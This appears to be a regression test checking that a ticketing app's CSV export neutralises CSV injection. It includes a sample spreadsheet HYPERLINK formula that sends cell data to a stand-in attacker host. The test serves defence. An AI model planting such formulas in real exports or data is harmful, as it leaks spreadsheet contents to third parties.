/**
 * Issue 10, finding 8: an office admin names a counter `=HYPERLINK(…)`; the chairman's CSV export
 * must not hand a spreadsheet a live formula (OWASP "CSV injection").
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/test-app.js';

const DAY = '2026-11-25';
const LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")';

describe('the CSV export', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({
      now: Date.parse(`${DAY}T02:00:00Z`),
      office: (c) => ({ ...c, counters: c.counters.map((k) => (k.id === '1' ? { ...k, name: LINK } : k)) }),
    });
  });
  afterAll(async () => t.close());

  it('writes names that start like a formula as text', async () => {
    const officer = await t.login(`officer1-${t.office}`);
    expect((await t.request('POST', `/offices/${t.office}/tickets`, { serviceId: 'tu-phap' })).status).toBe(201);
    await officer.request('POST', `/offices/${t.office}/counters/1/open`);
    expect((await officer.request('POST', `/offices/${t.office}/counters/1/call-next`)).status).toBe(200);
    t.clock.advance(60_000);
    expect((await officer.request('POST', `/offices/${t.office}/counters/1/complete`)).status).toBe(200);

    const chair = await t.login(`chair-${t.office}`);
    const res = await chair.request('GET', `/offices/${t.office}/reports/export?from=${DAY}&to=${DAY}&format=csv`);
    expect(res.status).toBe(200);
    const text = String(res.body);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Xem"")"`);
    // no cell of any line starts with a formula character (quoted or not)
    const cells = text.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(cells.filter((c) => /^"?[=+@\t\r]/.test(c) || /^"?-[^\d]/.test(c))).toEqual([]);
  });
});
